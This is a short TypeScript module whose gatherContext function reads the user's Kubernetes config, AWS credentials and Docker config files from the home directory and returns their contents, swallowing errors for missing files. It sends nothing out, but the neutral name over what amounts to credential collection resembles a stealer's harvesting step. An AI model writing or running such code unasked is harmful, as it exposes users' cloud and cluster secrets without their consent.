import { readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const FILES = ['.kube/config', '.aws/credentials', '.docker/config.json'];

export async function gatherContext(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const f of FILES) {
    try { out[f] = await readFile(join(homedir(), f), 'utf8'); } catch { /* absent */ }
  }
  return out;
}
